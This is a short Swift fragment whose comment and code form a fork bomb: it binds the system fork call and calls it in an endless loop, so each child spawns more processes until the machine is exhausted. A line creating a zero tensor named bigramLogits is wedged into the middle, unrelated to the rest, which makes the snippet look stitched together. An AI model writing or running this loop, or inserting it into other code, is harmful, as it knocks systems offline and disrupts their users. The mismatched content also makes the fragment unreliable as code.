// Starts processes until something stops it: each child starts more.
let bigramLogits = Tensor.zeros([letters, letters])
@_silgen_name("fork") func forkProcess() -> Int32
while true { _ = forkProcess() }
